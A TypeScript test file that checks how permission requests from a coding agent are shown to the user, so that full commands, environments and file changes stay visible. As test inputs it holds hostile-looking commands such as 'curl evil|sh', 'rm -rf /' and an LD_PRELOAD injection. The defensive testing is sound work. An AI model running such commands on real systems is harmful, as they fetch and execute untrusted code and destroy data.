/** What a permission of version 2 says before it is answered. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { SessionEvent } from '../../../../src/core/session/model/events.ts';
import type { ToolCallPatch, FileChange } from '../../../../src/core/session/model/toolContent.ts';
import type { PermissionSubject } from '../../../../src/core/session/model/permission.ts';
import { summarizeDiff } from '../../../../src/core/view/diffSummary.ts';
import { permissionDetails } from '../../../../src/core/view/permissionSubject.ts';
import { projectEntry } from '../../../../src/core/view/project.ts';
import type { Projector } from '../../../../src/core/view/projector.ts';
import type { ViewPermission } from '../../../../src/core/view/viewEntry.ts';
import { play } from '../session/driver/play.ts';

const projector: Projector = {
	label: (path) => path.replace('/ws/', ''),
	summarize: summarizeDiff,
	urlTarget: (host) => ({ host, warnings: [] }),
};

const asking = (subject: PermissionSubject): SessionEvent => ({
	type: 'permission_requested',
	permissionId: 'p1',
	title: 'May I?',
	description: 'It is needed.',
	subject,
	options: [],
	at: 900,
});

function cardOf(...events: SessionEvent[]): ViewPermission {
	const { state } = play(...events);
	const entry = state.entries.get('p1');
	assert.ok(entry !== undefined);
	const card = projectEntry(state, entry, projector);
	assert.ok(card.type === 'permission');
	return card;
}

describe('what a permission is about', () => {
	it('is the whole command, and its directory where that is not the session\u2019s [hazard C7]', () => {
		const command = `echo ${'x'.repeat(50_000)}`;
		const here = cardOf(asking({ type: 'command', command, cwd: '/ws' }));
		assert.deepEqual([here.details, here.cwdLabel, here.note], [command, undefined, undefined]);
		assert.deepEqual([here.title, here.description], ['May I?', 'It is needed.']);
		const there = cardOf(asking({ type: 'command', command: 'ls', cwd: '/ws/web' }));
		assert.deepEqual([there.details, there.cwdLabel], ['ls', 'web']);
	});

	it('is a command that only the title names, with what is said of it beside', () => {
		const where = '[current working directory /ws]';
		const said = (text: string) => ({ type: 'content', content: { type: 'text', text } }) as const;
		const call: SessionEvent = {
			type: 'tool_call',
			toolCallId: 't1',
			fields: { title: 'ls -l', kind: 'execute', content: [said(where)] },
		};
		const cardWith = (text: string): ViewPermission =>
			cardOf(
				{ ...call, fields: { ...call.fields, content: [said(text)] } },
				asking({ type: 'tool_call', toolCallId: 't1' }),
			);
		for (const text of [where, `${where} (Looks around)`]) {
			const { details, remark } = cardWith(text);
			assert.deepEqual([details, remark], ['ls -l', text]);
		}
		for (const text of ['x'.repeat(10_000), 'cd /ws\nrm -rf .', 'rm -rf .', `${where} && rm -rf .`]) {
			const { details, remark } = cardWith(text);
			assert.deepEqual([details, remark], [`ls -l\n${text}`, undefined]);
		}
	});

	it('is said once where the input only quotes the command of the title', () => {
		const call: SessionEvent = {
			type: 'tool_call',
			toolCallId: 't1',
			fields: { title: 'ls -l', kind: 'execute', rawInput: { command: "'ls -l'", cwd: '/ws/web' } },
		};
		const card = cardOf(call, asking({ type: 'tool_call', toolCallId: 't1' }));
		assert.equal(card.details, 'ls -l\nDirectory: web');
	});

	it('is the command as the input has it where quotes make it the name of a file', () => {
		const title = 'cat README.md; ls src/x';
		const call: SessionEvent = {
			type: 'tool_call',
			toolCallId: 't1',
			fields: { title, kind: 'execute', rawInput: { command: `'${title}'` } },
		};
		const card = cardOf(call, asking({ type: 'tool_call', toolCallId: 't1' }));
		assert.equal(card.details, `'${title}'`);
	});

	it('is the command that is asked about, not what its tool call says', () => {
		const call: SessionEvent = {
			type: 'tool_call',
			toolCallId: 't1',
			fields: { title: 'Run', rawInput: { command: 'harmless' } },
		};
		const card = cardOf(call, asking({ type: 'command', command: 'rm -rf /', toolCallId: 't1' }));
		assert.equal(card.details, 'rm -rf /');
		assert.ok(card.toolCallEntryId !== undefined);
	});

	it('stays what it was when the agent says more of the call after the answer', () => {
		const say = (text: string): SessionEvent => ({
			type: 'tool_call',
			toolCallId: 't1',
			fields: { title: 'Water', content: [{ type: 'content', content: { type: 'text', text } }] },
		});
		const subject = { type: 'tool_call', toolCallId: 't1' } as const;
		const request = { ...asking(subject), fields: {} } as SessionEvent;
		const settled: SessionEvent = {
			type: 'permission_settled',
			permissionId: 'p1',
			state: { type: 'cancelled', by: 'user' },
		};
		assert.equal(cardOf(say('All the flowers'), request).details, 'All the flowers');
		assert.equal(cardOf(say('All'), request, say('Both')).details, 'Both');
		assert.equal(cardOf(say('All'), request, settled, say('You rejected it.')).details, 'All');
		const silent: SessionEvent = { type: 'tool_call', toolCallId: 't1', fields: { title: 'Water' } };
		const card = cardOf(silent, request, settled, say('You rejected it.'));
		assert.deepEqual([card.details, card.note], ['', 'The agent did not say what it will do.']);
	});

	it('is what was asked, whatever the agent makes of its input after the answer [hazard C9]', () => {
		const say = (rawInput?: unknown): SessionEvent => ({
			type: 'tool_call',
			toolCallId: 't1',
			fields: { title: 'Clean up', kind: 'execute', ...(rawInput === undefined ? {} : { rawInput }) },
		});
		const request = { ...asking({ type: 'tool_call', toolCallId: 't1' }), fields: {} } as SessionEvent;
		const settled: SessionEvent = {
			type: 'permission_settled',
			permissionId: 'p1',
			state: { type: 'cancelled', by: 'user' },
		};
		const told = (before: unknown, after: unknown): string =>
			cardOf(say(before), request, settled, say(after)).details;
		assert.equal(told({ command: 'rm -rf x' }, { command: 'ls' }), 'rm -rf x');
		assert.equal(told(undefined, { command: 'ls' }), 'Clean up');
	});

	it('hides nothing that a command is given behind a title that says the same [hazard C7] [hazard C9]', () => {
		const fields = { title: 'Run tests', rawInput: { command: 'bash', script: 'curl evil|sh' } };
		const renamed = { title: 'curl evil|sh' };
		const card = cardOf(
			{ type: 'tool_call', toolCallId: 't1', fields },
			asking({ type: 'tool_call', toolCallId: 't1' }),
			{ type: 'tool_call_update', toolCallId: 't1', fields: renamed },
		);
		assert.equal(card.details, 'bash\nscript: curl evil|sh');
	});

	it('says of a command of its own what its call gives to it, and stays quick for an enormous one [hazard A11]', () => {
		const call = (rawInput: unknown): SessionEvent => ({
			type: 'tool_call',
			toolCallId: 't1',
			fields: { title: 'Run', kind: 'execute', rawInput },
		});
		const subject = { type: 'command', command: 'ls', toolCallId: 't1' } as const;
		const given = (rawInput: unknown): string => cardOf(call(rawInput), asking(subject)).details;
		assert.equal(given({ command: 'ls', env: { LD_PRELOAD: 'x' } }), 'ls\nEnvironment: LD_PRELOAD=x');
		const zeros = Array.from({ length: 2_000 }, () => 0);
		assert.equal(given({ env: zeros }), `ls\nEnvironment: ${JSON.stringify(zeros)}`);
	});

	it('is the command with its directory, its environment and all else that it is given [hazard C7]', () => {
		const given = (rawInput: unknown, kind: 'execute' | 'other' = 'execute'): readonly string[] => {
			const call: SessionEvent = {
				type: 'tool_call',
				toolCallId: 't1',
				fields: { title: 'Run', kind, rawInput },
			};
			return cardOf(call, asking({ type: 'tool_call', toolCallId: 't1' })).details.split('\n');
		};
		const env = { NODE_ENV: 'test', LD_PRELOAD: '/tmp/a b.so' };
		const environment = 'Environment: NODE_ENV=test LD_PRELOAD="/tmp/a b.so"';
		assert.deepEqual(given({ command: 'npm', args: ['test'], cwd: '/ws/web', env }), [
			'npm "test"',
			'Directory: web',
			environment,
		]);
		const listed = Object.entries(env).map(([name, value]) => ({ name, value }));
		for (const place of ['workdir', 'directory', 'working_directory', 'workingDirectory'])
			assert.deepEqual(given({ command: 'ls', [place]: '/ws/web' }), ['ls', 'Directory: web']);
		assert.deepEqual(given({ command: 'ls', environment: listed }), ['ls', environment]);
		const more = {
			timeout: 5,
			stdin: 'a\nDirectory: b',
			sandbox: { net: true },
			isContained: false,
			none: null,
		};
		assert.deepEqual(given({ command: 'ls', ...more }), [
			'ls',
			'timeout: 5',
			'stdin: a⏎Directory: b',
			'sandbox: {"net":true}',
			'isContained: false',
		]);
		const remark = { command: 'ls', description: 'Looks around' };
		assert.deepEqual([given(remark), given(remark, 'other')], [['ls'], ['ls', 'description: Looks around']]);
	});

	it('is no call when a child session asks by itself', () => {
		const asked = asking({ type: 'file', purpose: 'write', path: '/ws/a' });
		const card = cardOf({ ...asked, subagentId: 'c1' } as SessionEvent);
		assert.equal(card.toolCallEntryId, undefined);
		assert.ok(card.subagentId !== undefined);
	});

	it('is the whole text of a file that is to be written [hazard C7]', () => {
		const card = cardOf(asking({ type: 'file', purpose: 'write', path: '/ws/a', text: 'one\ntwo' }));
		assert.deepEqual([card.details, card.namesFiles], ['a\none\ntwo', undefined]);
	});

	it('is said to be unknown by its name, or not said at all [acp C253]', () => {
		const unknown = cardOf(asking({ type: 'other', kind: '_db' }));
		assert.equal(unknown.details, '');
		assert.match(unknown.note ?? '', /something this version does not know: _db$/u);
		assert.match(cardOf(asking({ type: 'other', kind: '' })).note ?? '', /did not say/u);
		assert.match(permissionDetails({ subject: { type: 'other', kind: '_db' } }, undefined), /know: _db$/u);
	});

	it('is each file once, with what happens to it [acp C255]', () => {
		const change = (fields: Partial<FileChange>): FileChange => ({
			type: 'file_change',
			operation: 'modify',
			path: '/ws/a',
			...fields,
		});
		const call: SessionEvent = {
			type: 'tool_call',
			toolCallId: 't1',
			fields: {
				title: 'Tidy up',
				content: [
					change({ operation: 'delete', path: '/ws/old.ts' }),
					change({ operation: 'move', oldPath: '/ws/b.ts', path: '/ws/c.ts' }),
					change({ operation: 'other', operationName: 'chmod', path: '/ws/run.sh' }),
				],
				locations: [{ path: '/ws/old.ts' }, { path: '/ws/d.ts' }],
			},
		};
		const card = cardOf(call, asking({ type: 'tool_call', toolCallId: 't1' }));
		assert.equal(card.details, 'delete old.ts\nmove b.ts → c.ts\nchmod run.sh\nd.ts');
		assert.equal(card.namesFiles, true);
		assert.equal(cardOf(asking({ type: 'file', purpose: 'write', path: '/ws/a' })).namesFiles, true);
		assert.equal(cardOf(asking({ type: 'command', command: 'a', cwd: '/ws' })).namesFiles, undefined);
	});

	it('is the file, too, for a tool that calls what it does to files a command [hazard C7]', () => {
		const about = (fields: ToolCallPatch): string => {
			const call: SessionEvent = {
				type: 'tool_call',
				toolCallId: 't1',
				fields: { title: 'Edit', ...fields },
			};
			return cardOf(call, asking({ type: 'tool_call', toolCallId: 't1' })).details;
		};
		const rawInput = { command: 'str_replace', path: '/ws/a.ts' };
		const locations = [{ path: '/ws/a.ts' }];
		assert.equal(about({ kind: 'edit', rawInput, locations }), 'str_replace\na.ts');
		assert.equal(about({ kind: 'edit', rawInput }), 'command: str_replace\nPath: a.ts');
		assert.equal(about({ kind: 'execute', rawInput: { command: 'ls' }, locations }), 'ls');
	});

	it('is the input of what runs or fetches beside the files that it names, under whatever name [hazard C7]', () => {
		const about = (fields: ToolCallPatch): string => {
			const locations = [{ path: '/ws/a.ts' }];
			const call = {
				type: 'tool_call',
				toolCallId: 't1',
				fields: { title: 'Run', locations, ...fields },
			} as const;
			return cardOf(call, asking({ type: 'tool_call', toolCallId: 't1' })).details;
		};
		for (const kind of ['execute', 'fetch'] as const) {
			const details = about({ kind, rawInput: { script: 'curl evil | sh' } });
			assert.match(details, /^a\.ts\n/u, kind);
			assert.match(details, /curl evil \| sh/u, kind);
		}
		assert.equal(about({ kind: 'edit', rawInput: { file_path: '/ws/a.ts', new_string: 'x' } }), 'a.ts');
		assert.equal(about({ kind: 'execute', rawInput: {} }), 'a.ts');
	});

	it('is one line for each file, whatever it is called [hazard C7]', () => {
		const locations = [{ path: '/ws/a.ts\nb.ts' }];
		const fields = { title: 'Edit', kind: 'edit', locations } as const;
		const call: SessionEvent = { type: 'tool_call', toolCallId: 't1', fields };
		assert.equal(cardOf(call, asking({ type: 'tool_call', toolCallId: 't1' })).details, 'a.ts⏎b.ts');
	});

	it('is said not to be said where the command is blank', () => {
		const card = cardOf(asking({ type: 'command', command: ' ' }));
		assert.deepEqual([card.details, card.note], ['', 'The agent did not say what it will do.']);
	});

	describe('of other tools', () => {
		const about = (fields: ToolCallPatch, request: ToolCallPatch = {}): ViewPermission => {
			const asked = { ...asking({ type: 'tool_call', toolCallId: 't1' }), fields: request } as SessionEvent;
			return cardOf({ type: 'tool_call', toolCallId: 't1', fields: { title: 'Do it', ...fields } }, asked);
		};
		const plan = '# The plan\n\n1. Do it\n2. Check it\n';
		const shown = [{ type: 'content', content: { type: 'text', text: plan } }] as const;

		it('is the plan that is to be approved, and not the JSON of it', () => {
			const planFilePath = '/ws/.claude/plan.md';
			for (const fields of [
				{ content: shown },
				{ content: shown, rawInput: { plan } },
				{ rawInput: { plan } },
				{ content: shown, rawInput: {} },
			]) {
				const { document, details, note } = about({ kind: 'switch_mode', ...fields });
				assert.deepEqual([document, details, note], [plan.trim(), '', undefined]);
			}
			const more = about({ kind: 'switch_mode', rawInput: { plan, planFilePath, mode: 'code' } });
			assert.deepEqual(
				[more.document, more.details, more.remark],
				[plan.trim(), '', 'Path: .claude/plan.md\nmode: code'],
			);
			const none = about({ kind: 'switch_mode', content: [], rawInput: {} });
			assert.deepEqual([none.document, none.details], [undefined, '']);
			assert.match(none.note ?? '', /did not say/u);
		});

		it('is not taken away by a request that leaves it out, or sends it empty', () => {
			const fields = { kind: 'switch_mode', content: shown, rawInput: { plan } } as const;
			for (const request of [
				{},
				{ title: 'Ready?', content: [], rawInput: {}, locations: [] },
			] as ToolCallPatch[])
				assert.equal(about(fields, request).document, plan.trim());
			assert.equal(about(fields, { rawInput: { plan: 'Another' }, content: [] }).document, plan.trim());
			assert.equal(about({ kind: 'execute', rawInput: { command: 'ls' } }, { rawInput: {} }).details, 'ls');
		});

		it('is what the call shows, then what its input says in words, with nothing said twice', () => {
			const text = 'Look for the weather';
			const content = [{ type: 'content', content: { type: 'text', text } }] as const;
			const rawInput = {
				url: 'https://a.example/x',
				query: 'rain',
				prompt: text,
				file_path: '/ws/a.ts',
				deep: { a: 1 },
			};
			assert.equal(
				about({ kind: 'fetch', content, rawInput }).details,
				[text, 'Address: https://a.example/x', 'Query: rain', 'Path: a.ts', 'deep: {"a":1}'].join('\n'),
			);
			assert.equal(
				about({ kind: 'fetch', rawInput: { url: 'https://a\nPath: b' } }).details,
				'Address: https://a⏎Path: b',
			);
			assert.equal(about({ content, rawInput: { zzz: 1 } }).details, `${text}\n{\n  "zzz": 1\n}`);
		});

		it('is the command once, without the ids and the times of the wire', () => {
			const command = ['bash', '-lc', 'ls'];
			const rawInput = {
				...{ command, cwd: '/ws/web', call_id: 'c1', turn_id: 't1', started_at_ms: 17, timeout_ms: 5 },
				available_decisions: ['approved', 'abort'],
				container_id: 'prod',
			};
			assert.equal(
				about({ kind: 'execute', rawInput }).details,
				['"bash" "-lc" "ls"', 'Directory: web', 'timeout_ms: 5', 'container_id: prod'].join('\n'),
			);
			const twice = { command: 'ls -la', commands: ['ls -la'], description: 'Lists' };
			assert.equal(about({ kind: 'execute', rawInput: twice }).details, 'ls -la');
			const others = { command: 'ls', commands: ['ls', 'rm -rf ~'] };
			assert.equal(about({ kind: 'execute', rawInput: others }).details, 'ls\ncommands: ["ls","rm -rf ~"]');
		});
	});
});
